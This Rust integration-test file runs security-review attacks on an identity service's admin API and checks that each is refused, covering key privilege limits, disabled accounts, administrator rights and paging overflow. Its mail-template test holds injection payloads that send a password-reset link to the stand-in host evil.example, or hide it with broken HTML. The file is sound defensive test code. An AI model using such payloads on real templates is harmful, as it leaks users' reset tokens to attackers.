//! The security review's attacks (issue 13), each performed over HTTPS against the real
//! admin-api — console sessions with their CSRF tokens, management keys over mutual TLS — on
//! SQLite and PostgreSQL, and each refused. The findings are numbered as in docs/security.md.

use actix_web::http::StatusCode;
use diesel::prelude::*;
use lanyard_core::id::{AccountId, AdministratorId};
use lanyard_core::{Email, Oid, SystemClock};
use lanyard_identity::access_key::{self, KeyKind, KeySource};
use lanyard_identity::account::{self, NewAccount};
use lanyard_identity::admin::{self, ScopeChoice};
use lanyard_identity::rights::{Actor, Area, Rights, Verb, VerbSet};
use lanyard_identity::session::{self, Stage};
use lanyard_identity::{AccountKind, application, customer, profile};
use lanyard_store::Backend;
use lanyard_web::startup::Service;
use lanyard_web::testing::{TlsTestApp, read};
use serde_json::{Value, json};

const STRONG: &str = "correct horse battery staple";

/// A logged-in console session (cookie token and CSRF token).
struct Session {
    token: String,
    csrf: String,
}

/// An administrator of the world, with its actor and a console session.
struct Who {
    id: AdministratorId,
    actor: Actor,
    session: Session,
}

/// An organization "Acme" with two full administrators (boss, deputy) and limited ones:
/// helpdesk (views end users, manages devices, views and creates access keys, edits and deletes
/// administrators) and keymaster (every access-key right, may send messages, nothing else).
struct World {
    org: AccountId,
    oid: Oid,
    boss: Who,
    deputy: Who,
    helpdesk: Who,
    keymaster: Who,
}

fn verbs(list: &[Verb]) -> VerbSet {
    list.iter().fold(VerbSet::NONE, |set, v| set.with(*v))
}

fn session_of(app: &TlsTestApp, id: &AdministratorId) -> Session {
    let (session, token) =
        session::start(&mut app.db.conn(), &SystemClock, id, Stage::Complete).expect("session");
    Session {
        token: token.expose().to_owned(),
        csrf: session.csrf_token,
    }
}

/// An active administrator of `account` (full, until given another profile).
fn administrator(app: &TlsTestApp, account: &AccountId, email: &str) -> Who {
    let id = admin::create_first(
        &mut app.db.conn(),
        &SystemClock,
        account,
        &Email::parse(email).expect("email"),
        email,
        STRONG,
    )
    .expect("administrator")
    .id;
    Who {
        actor: admin::actor(&mut app.db.conn(), &id).expect("actor"),
        session: session_of(app, &id),
        id,
    }
}

/// Gives `who` the profile `name` with `rights` (made by `by`) and the scope `scope`.
fn limit(
    app: &TlsTestApp,
    by: &Actor,
    who: &mut Who,
    name: &str,
    rights: &Rights,
    scope: &ScopeChoice,
) {
    let mut conn = app.db.conn();
    let account = admin::get(&mut conn, &who.id).expect("admin").account;
    let profile = match profile::create(&mut conn, &SystemClock, by, &account, name, rights) {
        Ok(p) => p,
        Err(_) => profile::list(&mut conn, &account)
            .expect("profiles")
            .into_iter()
            .find(|p| p.name == name)
            .expect("profile"),
    };
    admin::set_profile_and_scope(&mut conn, &SystemClock, by, &who.id, &profile.id, scope)
        .expect("limited");
    who.actor = admin::actor(&mut conn, &who.id).expect("actor");
}

fn world(app: &TlsTestApp) -> World {
    let created = account::create(
        &mut app.db.conn(),
        &SystemClock,
        NewAccount::organization("Acme"),
    )
    .expect("org");
    let org = created.id;
    let boss = administrator(app, &org, "boss@acme.example");
    let deputy = administrator(app, &org, "deputy@acme.example");
    let mut helpdesk = administrator(app, &org, "help@acme.example");
    let mut keymaster = administrator(app, &org, "keys@acme.example");
    let mut help_rights = Rights::default();
    help_rights.grant(Area::EndUsers, verbs(&[Verb::View]));
    help_rights.grant(
        Area::Devices,
        verbs(&[Verb::View, Verb::Create, Verb::Edit]),
    );
    help_rights.grant(Area::AccessKeys, verbs(&[Verb::View, Verb::Create]));
    help_rights.grant(
        Area::Administrators,
        verbs(&[Verb::View, Verb::Edit, Verb::Delete]),
    );
    help_rights.grant(Area::MyAccount, verbs(&[Verb::View, Verb::Edit]));
    limit(
        app,
        &boss.actor,
        &mut helpdesk,
        "Helpdesk",
        &help_rights,
        &ScopeChoice::All,
    );
    let mut key_rights = Rights::default();
    key_rights.grant(Area::AccessKeys, VerbSet::ALL);
    key_rights.grant(Area::Messages, verbs(&[Verb::Create]));
    limit(
        app,
        &boss.actor,
        &mut keymaster,
        "Keymaster",
        &key_rights,
        &ScopeChoice::All,
    );
    World {
        org,
        oid: created.oid,
        boss,
        deputy,
        helpdesk,
        keymaster,
    }
}

async fn start(backend: Backend) -> Option<TlsTestApp> {
    TlsTestApp::start(backend, Service::Admin, lanyard_admin_api::configure).await
}

/// A console request of `who`: status, body and `Location`.
async fn console(
    app: &TlsTestApp,
    who: &Session,
    path: &str,
    form: Option<&[(&str, &str)]>,
) -> (StatusCode, String, String) {
    let client = app.client(None);
    let cookie = format!("lanyard_session={}", who.token);
    let mut response = match form {
        Some(fields) => {
            let mut fields: Vec<(&str, &str)> = fields.to_vec();
            fields.push(("csrf", &who.csrf));
            client
                .post(app.url(path))
                .insert_header(("Cookie", cookie))
                .send_form(&fields)
                .await
        }
        None => {
            client
                .get(app.url(path))
                .insert_header(("Cookie", cookie))
                .send()
                .await
        }
    }
    .expect("console request");
    let location = response
        .headers()
        .get("location")
        .and_then(|l| l.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let body = response.body().limit(8 << 20).await.expect("body");
    (
        response.status(),
        String::from_utf8_lossy(&body).into_owned(),
        location,
    )
}

/// A management API request over mutual TLS with `identity` (PEM: certificate, chain, key).
async fn rest(
    app: &TlsTestApp,
    identity: &[u8],
    method: &str,
    path: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let client = app.client(Some(identity));
    let request = client
        .request(method.parse().expect("method"), app.url(path))
        .insert_header(("X-PBM-API-VERSION", "2"));
    let response = match body {
        Some(b) => request.send_json(&b).await,
        None => request.send().await,
    };
    read(response.expect("request")).await
}

fn refused(got: &(StatusCode, Value), code: &str) {
    assert_eq!(got.0.as_u16(), 420, "{got:?}");
    assert_eq!(got.1["code"], code, "{got:?}");
}

/// The newest certificate serial of key `key_id`.
fn serial_of(app: &TlsTestApp, w: &World, key_id: &str) -> String {
    access_key::certificates_of(
        &mut app.db.conn(),
        &SystemClock,
        &w.boss.actor,
        &w.org,
        key_id,
    )
    .expect("certificates")[0]
        .serial
        .clone()
}

/// Finding 1: a management key made by a limited administrator carries that administrator's
/// rights, not every right; nobody widens a key's power with a new certificate; generated
/// private keys and PFX passwords go to their maker only, once; the callback secret needs the
/// edit right.
async fn keys_are_never_wider_than_their_maker(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    // The helpdesk makes a management key in the console and downloads it (its own, first time).
    // (The client follows the redirect to the new key's page.)
    let (status, body, _) = console(
        &app,
        &w.helpdesk.session,
        "/console/access-keys",
        Some(&[("type", "management"), ("name", "helpdesk tool")]),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let key_id = access_key::list(
        &mut app.db.conn(),
        &w.boss.actor,
        &w.org,
        KeyKind::Management,
    )
    .expect("keys")
    .into_iter()
    .find(|k| k.name == "helpdesk tool")
    .expect("the helpdesk's key")
    .id;
    let serial = serial_of(&app, &w, &key_id);
    let (status, pem, _) = console(
        &app,
        &w.helpdesk.session,
        &format!("/console/access-keys/{key_id}/certificates/{serial}.pem"),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        pem.contains("PRIVATE KEY"),
        "the maker's first download has the key"
    );
    // The key works for what the helpdesk may do…
    let listed = rest(&app, pem.as_bytes(), "GET", "/rest/users", None).await;
    assert_eq!(listed.0, StatusCode::OK, "{listed:?}");
    // …and for nothing more: no administrator invitation, no callback secret.
    refused(
        &rest(
            &app,
            pem.as_bytes(),
            "POST",
            "/rest/invitations",
            Some(json!({})),
        )
        .await,
        "FORBIDDEN",
    );
    let bank = application::create(
        &mut app.db.conn(),
        &SystemClock,
        &w.boss.actor,
        &w.org,
        "Bank",
    )
    .expect("application");
    refused(
        &rest(
            &app,
            pem.as_bytes(),
            "GET",
            &format!("/rest/applications/{}/callbackSecret", bank.id),
            None,
        )
        .await,
        "FORBIDDEN",
    );
    // The private key was handed out once: the next PEM has no key, the PFX is refused.
    let (_, again, _) = console(
        &app,
        &w.helpdesk.session,
        &format!("/console/access-keys/{key_id}/certificates/{serial}.pem"),
        None,
    )
    .await;
    assert!(!again.contains("PRIVATE KEY"));
    let (status, body, _) = console(
        &app,
        &w.helpdesk.session,
        &format!("/console/access-keys/{key_id}/certificates/{serial}.pfx"),
        None,
    )
    .await;
    assert_eq!(
        status,
        StatusCode::BAD_REQUEST,
        "a second download of the key is refused"
    );
    assert!(body.contains("downloaded already"), "{body}");

    // The boss's full key: the keymaster (all access-key rights, little else) can neither take
    // its generated key nor give it a new certificate of its own.
    let full = access_key::create(
        &mut app.db.conn(),
        &SystemClock,
        &app.master_key,
        &w.boss.actor,
        &w.org,
        KeyKind::Management,
        "boss tool",
        None,
        KeySource::Generate,
        "https://127.0.0.1:7401",
    )
    .expect("key");
    let full_serial = full.certificate.serial.clone();
    for file in ["pfx"] {
        let (status, body, _) = console(
            &app,
            &w.keymaster.session,
            &format!(
                "/console/access-keys/{}/certificates/{full_serial}.{file}",
                full.key.id
            ),
            None,
        )
        .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    }
    let (_, body, _) = console(
        &app,
        &w.keymaster.session,
        &format!(
            "/console/access-keys/{}/certificates/{full_serial}.pem",
            full.key.id
        ),
        None,
    )
    .await;
    assert!(!body.contains("PRIVATE KEY"), "only the maker gets the key");
    let (status, body, _) = console(
        &app,
        &w.keymaster.session,
        &format!(
            "/console/access-keys/{}/certificates/{full_serial}/password",
            full.key.id
        ),
        Some(&[]),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let own = lanyard_pki::generate_key(lanyard_pki::KeySpec::EcP256).expect("key");
    let mut req = openssl::x509::X509ReqBuilder::new().expect("req");
    req.set_pubkey(&own).expect("pubkey");
    req.sign(&own, openssl::hash::MessageDigest::sha256())
        .expect("sign");
    let csr = String::from_utf8(req.build().to_pem().expect("pem")).expect("utf-8");
    let (status, body, _) = console(
        &app,
        &w.keymaster.session,
        &format!("/console/access-keys/{}/issue", full.key.id),
        Some(&[("csr", &csr)]),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(
        access_key::certificates_of(
            &mut app.db.conn(),
            &SystemClock,
            &w.boss.actor,
            &w.org,
            &full.key.id
        )
        .expect("certificates")
        .len(),
        1,
        "no certificate was issued"
    );
    // The boss, who holds every right, may.
    let (status, body, _) = console(
        &app,
        &w.boss.session,
        &format!("/console/access-keys/{}/issue", full.key.id),
        Some(&[("csr", &csr)]),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

/// Finding 2: a disabled account's management keys are refused at once and work again on
/// reactivation; deleting the account revokes them for good (listed in the CRL).
async fn a_disabled_account_loses_its_keys(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let links = app.state().links();
    let (created, operator) =
        lanyard_web::testing::activated_customer(&mut app.db.conn(), &links, "Globex");
    let org = created.account.id.clone();
    let actor = Actor::api_token(org.clone(), "t");
    let key = access_key::create(
        &mut app.db.conn(),
        &SystemClock,
        &app.master_key,
        &actor,
        &org,
        KeyKind::Management,
        "ops",
        None,
        KeySource::Generate,
        "https://127.0.0.1:7401",
    )
    .expect("key");
    let pem = access_key::download_pem(
        &mut app.db.conn(),
        &SystemClock,
        &app.master_key,
        &actor,
        &org,
        &key.certificate.serial,
    )
    .expect("pem");
    let users = || rest(&app, &pem, "GET", "/rest/users", None);
    assert_eq!(users().await.0, StatusCode::OK);
    let oid = created.account.oid.clone();
    customer::disable(&mut app.db.conn(), &SystemClock, &links, &operator, &oid).expect("disable");
    assert_eq!(users().await.0, StatusCode::UNAUTHORIZED, "refused at once");
    customer::reactivate(&mut app.db.conn(), &SystemClock, &links, &operator, &oid)
        .expect("reactivate");
    assert_eq!(
        users().await.0,
        StatusCode::OK,
        "reactivation restores the key"
    );
    customer::delete(
        &mut app.db.conn(),
        &SystemClock,
        &links,
        &app.master_key,
        &operator,
        &oid,
    )
    .expect("delete");
    assert_eq!(users().await.0, StatusCode::UNAUTHORIZED);
    let status: String = lanyard_store::schema::certificates::table
        .find(&key.certificate.serial)
        .select(lanyard_store::schema::certificates::status)
        .first(&mut app.db.conn())
        .expect("row");
    assert_eq!(
        status, "revoked",
        "deletion revokes the account's certificates"
    );
    let crl = lanyard_identity::platform_pki::crl(
        &mut app.db.conn(),
        &SystemClock,
        &app.master_key,
        "access-keys-1",
        false,
    )
    .expect("crl");
    let crl = openssl::x509::X509Crl::from_der(&crl).expect("der");
    let serials: Vec<String> = crl
        .get_revoked()
        .map(|r| {
            r.iter()
                .map(|c| {
                    c.serial_number()
                        .to_bn()
                        .expect("bn")
                        .to_hex_str()
                        .expect("hex")
                        .to_string()
                })
                .collect()
        })
        .unwrap_or_default();
    assert!(
        serials
            .iter()
            .any(|s| s.trim_start_matches('0') == key.certificate.serial.trim_start_matches('0')),
        "{serials:?} lists {}",
        key.certificate.serial
    );
}

/// Finding 3: a security mail's secret stays in its fixed block: an override cannot use the
/// link or code, cannot swallow or hide the block with broken HTML, and a parent's override of a
/// security mail does not reach the accounts below it.
async fn security_mails_keep_their_secrets(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    // The link in a remote image: refused, the variable does not exist for this mail.
    let (status, body, _) = console(
        &app,
        &w.helpdesk.session,
        "/console/personalization/password_reset",
        Some(&[
            ("subject", "Reset"),
            ("text", "Open {{ link }}"),
            (
                "html",
                "<img src=\"https://evil.example/steal?{{ link }}\">",
            ),
        ]),
    )
    .await;
    assert_eq!(status.as_u16(), 422, "{body}");
    assert!(body.contains("link"), "the error names the variable");
    // Broken HTML that would swallow what follows into an attacker's URL, or hide it.
    let (status, body, _) = console(
        &app,
        &w.helpdesk.session,
        "/console/personalization/password_reset",
        Some(&[
            ("subject", "Reset your password"),
            ("text", "Hello {{ name }}, reset below."),
            (
                "html",
                "<p>Hello {{ name }}</p><style>.lanyard-secure{display:none}</style><div style=\"display:none\"><!-- <a href=\"https://evil.example/steal?x=",
            ),
        ]),
    )
    .await;
    assert!(status.is_success() || status.is_redirection(), "{body}");
    admin::request_password_reset(
        &mut app.db.conn(),
        &SystemClock,
        &app.state().links(),
        "boss@acme.example",
    )
    .expect("reset");
    let mail = lanyard_mail::recent_to(&mut app.db.conn(), "boss@acme.example", 1).expect("mail")
        [0]
    .clone();
    let html = mail.html.expect("html");
    let token = mail
        .text
        .split("token=")
        .nth(1)
        .and_then(|t| t.split_whitespace().next())
        .expect("the text has the link");
    assert!(html.contains(token), "the block has the link: {html}");
    let block = html.find("lanyard-secure").expect("fixed block");
    assert!(
        !html.contains("evil.example"),
        "no attacker URL survives: {html}"
    );
    assert!(
        !html.contains("<style") && !html.contains("display:none\"><"),
        "{html}"
    );
    assert!(
        !html[..block].contains("<!--"),
        "no comment swallows the block: {html}"
    );
    // A parent's override of a security mail stays with the parent.
    let platform = account::platform(&mut app.db.conn()).expect("platform");
    lanyard_mail::templates::set_override(
        &mut app.db.conn(),
        &SystemClock,
        &platform.id,
        "password_reset",
        &lanyard_mail::templates::TemplateText {
            subject: "From your distributor".into(),
            text: "Hello".into(),
            html: None,
            overridden_by: None,
        },
        &minijinja::context! { name => "x", expires => "y", link => "l", code => "c" },
    )
    .expect("override");
    let chain = account::ancestors(&mut app.db.conn(), &w.deputy.actor.account).expect("chain");
    let resolved = lanyard_mail::templates::resolve(&mut app.db.conn(), &chain, "password_reset")
        .expect("resolve");
    assert_eq!(
        resolved.overridden_by.as_ref(),
        Some(&w.org),
        "the organization's own only"
    );
    let _ = &w.oid;
}

/// Finding 4: a helpdesk administrator cannot enroll a phone for another administrator; a full
/// administrator can, and the administrator is told by e-mail.
async fn only_the_administrator_or_a_full_one_enrolls_its_phone(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    let count = |id: &AdministratorId| -> i64 {
        use lanyard_store::schema::enrollments;
        enrollments::table
            .filter(enrollments::administrator_id.eq(id.as_str()))
            .count()
            .get_result(&mut app.db.conn())
            .expect("count")
    };
    // `who` asks for an enrollment of administrator `target`'s phone.
    let enroll = |who: &Who, target: &AdministratorId| {
        let path = format!("/console/administrators/{}/enroll", target.as_str());
        let session = Session {
            token: who.session.token.clone(),
            csrf: who.session.csrf.clone(),
        };
        let app = &app;
        async move { console(app, &session, &path, Some(&[])).await }
    };
    let (status, body, _) = enroll(&w.helpdesk, &w.boss.id).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(count(&w.boss.id), 0);
    // Its own phone, the helpdesk may enroll.
    let (status, _, _) = enroll(&w.helpdesk, &w.helpdesk.id).await;
    assert_eq!(status, StatusCode::OK, "back on its own page");
    assert_eq!(count(&w.helpdesk.id), 1);
    // A full administrator may, and the administrator hears of it.
    let (status, body, _) = enroll(&w.boss, &w.deputy.id).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(count(&w.deputy.id), 1);
    let mail = lanyard_mail::recent_to(&mut app.db.conn(), "deputy@acme.example", 1).expect("mail");
    assert_eq!(mail[0].template, "admin_enrollment_created");
    assert!(
        mail[0].text.contains("boss@acme.example"),
        "{}",
        mail[0].text
    );
}

/// Finding 5: an administrator changes or removes only administrators within its own rights
/// and scope — a helpdesk cannot disable, demote or delete a full administrator, and an
/// administrator scoped to one organization cannot touch its distributor's full ones.
async fn limited_administrators_cannot_remove_stronger_ones(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    let deputy = w.deputy.id.as_str().to_owned();
    let builtin = profile::builtin(&mut app.db.conn(), &w.org).expect("builtin");
    for (action, fields) in [
        ("disable", vec![]),
        ("delete", vec![]),
        (
            "rights",
            vec![("profile", builtin.id.as_str()), ("scope", "all")],
        ),
        ("edit", vec![("fullName", "Demoted Deputy")]),
    ] {
        let (status, body, _) = console(
            &app,
            &w.helpdesk.session,
            &format!("/console/administrators/{deputy}/{action}"),
            Some(&fields),
        )
        .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{action}: {body}");
    }
    let deputy_now = admin::get(&mut app.db.conn(), &w.deputy.id).expect("deputy");
    assert_eq!(deputy_now.status, admin::AdminStatus::Active);
    assert_eq!(deputy_now.full_name, "deputy@acme.example");
    // The keymaster is within the helpdesk's scope but not its rights either.
    let (status, _, _) = console(
        &app,
        &w.helpdesk.session,
        &format!(
            "/console/administrators/{}/disable",
            w.keymaster.id.as_str()
        ),
        Some(&[]),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // A distributor whose administrator is scoped to one of its organizations (with every
    // right there) cannot disable the distributor's full administrators.
    let dist = account::create(
        &mut app.db.conn(),
        &SystemClock,
        NewAccount {
            kind: AccountKind::Distributor,
            name: "Dist".into(),
            contact_email: None,
            parent: None,
        },
    )
    .expect("distributor");
    let child = |name: &str| {
        account::create(
            &mut app.db.conn(),
            &SystemClock,
            NewAccount {
                kind: AccountKind::Organization,
                name: name.into(),
                contact_email: None,
                parent: Some(dist.oid.clone()),
            },
        )
        .expect("child")
    };
    let child = (child("Child"), child("Other child")).0;
    let chief = administrator(&app, &dist.id, "chief@dist.example");
    let second = administrator(&app, &dist.id, "second@dist.example");
    let mut scoped = administrator(&app, &dist.id, "scoped@dist.example");
    let dist_builtin = profile::builtin(&mut app.db.conn(), &dist.id).expect("builtin");
    admin::set_profile_and_scope(
        &mut app.db.conn(),
        &SystemClock,
        &chief.actor,
        &scoped.id,
        &dist_builtin.id,
        &ScopeChoice::Selected(vec![child.id.clone()]),
    )
    .expect("scoped");
    scoped.actor = admin::actor(&mut app.db.conn(), &scoped.id).expect("actor");
    let (status, body, _) = console(
        &app,
        &scoped.session,
        &format!("/console/administrators/{}/disable", second.id.as_str()),
        Some(&[]),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(
        admin::get(&mut app.db.conn(), &second.id)
            .expect("second")
            .status,
        admin::AdminStatus::Active
    );
    // Within its rights and scope it still works: the boss disables the helpdesk.
    let (status, body, _) = console(
        &app,
        &w.boss.session,
        &format!("/console/administrators/{}/disable", w.helpdesk.id.as_str()),
        Some(&[]),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

/// Finding 6: a disabled administrator's old activation code does not re-enable it, and
/// disabling ends its outstanding codes and links.
async fn a_disabled_administrator_cannot_reenable_itself(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    let links = app.state().links();
    admin::send_activation(&mut app.db.conn(), &SystemClock, &links, &w.helpdesk.id).expect("code");
    let code = {
        let mail =
            lanyard_mail::recent_to(&mut app.db.conn(), "help@acme.example", 1).expect("mail");
        mail[0]
            .text
            .split("your activation code is ")
            .nth(1)
            .and_then(|t| t.split_whitespace().next())
            .expect("code")
            .to_owned()
    };
    admin::request_password_reset(
        &mut app.db.conn(),
        &SystemClock,
        &links,
        "help@acme.example",
    )
    .expect("reset link");
    admin::set_disabled(
        &mut app.db.conn(),
        &SystemClock,
        &w.boss.actor,
        &w.helpdesk.id,
        true,
    )
    .expect("disabled");
    // The console's activation form, as the disabled administrator would use it.
    let csrf = "c".repeat(32);
    let response = app
        .client(None)
        .post(app.url("/console/activate"))
        .insert_header(("Cookie", format!("lanyard_csrf={csrf}")))
        .send_form(&[
            ("csrf", csrf.as_str()),
            ("email", "help@acme.example"),
            ("code", &code),
        ])
        .await
        .expect("request");
    assert_eq!(response.status().as_u16(), 422);
    assert_eq!(
        admin::get(&mut app.db.conn(), &w.helpdesk.id)
            .expect("admin")
            .status,
        admin::AdminStatus::Disabled
    );
    // Every code and link the administrator had is spent.
    let open: i64 = lanyard_store::schema::admin_tokens::table
        .filter(lanyard_store::schema::admin_tokens::administrator_id.eq(w.helpdesk.id.as_str()))
        .filter(lanyard_store::schema::admin_tokens::used_at.is_null())
        .count()
        .get_result(&mut app.db.conn())
        .expect("count");
    assert_eq!(open, 0);
}

/// Finding 10: the manageable-aliases setting is enforced on every add and change, from the
/// API and the console.
async fn manageable_aliases_are_enforced(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    let more = lanyard_identity::organization::MoreSettings::parse("", "", "[a-z]+\\.staff", "")
        .expect("settings");
    lanyard_identity::organization::update_more(
        &mut app.db.conn(),
        &SystemClock,
        &w.boss.actor,
        &w.org,
        &more,
    )
    .expect("saved");
    let token = lanyard_identity::api_token::create(&mut app.db.conn(), &SystemClock, &w.oid, "t")
        .expect("token");
    let bearer = format!("Bearer {}", token.secret.expose());
    let call = |method: &'static str, path: String, body: Value| {
        let client = app.client(None);
        let bearer = bearer.clone();
        let url = app.url(&path);
        async move {
            read(
                client
                    .request(method.parse().expect("method"), url)
                    .insert_header(("X-PBM-API-VERSION", "2"))
                    .insert_header(("Authorization", bearer))
                    .send_json(&body)
                    .await
                    .expect("request"),
            )
            .await
        }
    };
    let refused_alias = |got: (StatusCode, Value)| {
        refused(&got, "MALFORMED_INPUT");
        assert!(
            got.1["message"]
                .as_str()
                .is_some_and(|m| m.contains("userId")),
            "{got:?}"
        );
    };
    refused_alias(
        call(
            "POST",
            "/rest/users".into(),
            json!({"userId": "boss", "email": "b@acme.example"}),
        )
        .await,
    );
    let (status, user) = call(
        "POST",
        "/rest/users".into(),
        json!({"userId": "ann.staff", "email": "ann@acme.example"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{user}");
    let oid = user["oid"].as_str().expect("oid").to_owned();
    refused_alias(
        call(
            "POST",
            format!("/rest/loginNames/{oid}"),
            json!({"userId": "ceo"}),
        )
        .await,
    );
    let (status, body, _) = console(
        &app,
        &w.boss.session,
        &format!("/console/users/{oid}/alias-add"),
        Some(&[("alias", "ceo")]),
    )
    .await;
    assert_eq!(status.as_u16(), 422, "{body}");
    let aliases = lanyard_identity::alias::list_for_user(
        &mut app.db.conn(),
        &w.org,
        &Oid::parse(&oid).expect("oid"),
    )
    .expect("aliases");
    assert_eq!(aliases.len(), 1, "{aliases:?}");
}

/// Finding 11: paging parameters that would overflow are refused with a clear error.
async fn paging_cannot_overflow(backend: Backend) {
    let Some(app) = start(backend).await else {
        return;
    };
    let w = world(&app);
    for page in ["users", "messages", "activity", "history"] {
        let (status, body, _) = console(
            &app,
            &w.boss.session,
            &format!("/console/{page}?start=9223372036854775807"),
            None,
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{page}: {body}");
        assert!(body.contains("start"), "{page}: {body}");
    }
    let token = lanyard_identity::api_token::create(&mut app.db.conn(), &SystemClock, &w.oid, "t")
        .expect("token");
    let got = read(
        app.client(None)
            .get(app.url("/rest/users?start=9223372036854775807&length=10"))
            .insert_header(("X-PBM-API-VERSION", "2"))
            .insert_header(("Authorization", format!("Bearer {}", token.secret.expose())))
            .send()
            .await
            .expect("request"),
    )
    .await;
    refused(&got, "MALFORMED_INPUT");
    assert!(
        got.1["message"]
            .as_str()
            .is_some_and(|m| m.contains("start")),
        "{got:?}"
    );
}

macro_rules! on_both_backends {
    ($($name:ident),+ $(,)?) => {
        $(
            mod $name {
                #[actix_rt::test]
                async fn sqlite() {
                    super::$name(lanyard_store::Backend::Sqlite).await;
                }

                #[actix_rt::test]
                async fn postgres() {
                    super::$name(lanyard_store::Backend::Postgres).await;
                }
            }
        )+
    };
}

on_both_backends!(
    keys_are_never_wider_than_their_maker,
    a_disabled_account_loses_its_keys,
    security_mails_keep_their_secrets,
    only_the_administrator_or_a_full_one_enrolls_its_phone,
    limited_administrators_cannot_remove_stronger_ones,
    a_disabled_administrator_cannot_reenable_itself,
    manageable_aliases_are_enforced,
    paging_cannot_overflow,
);
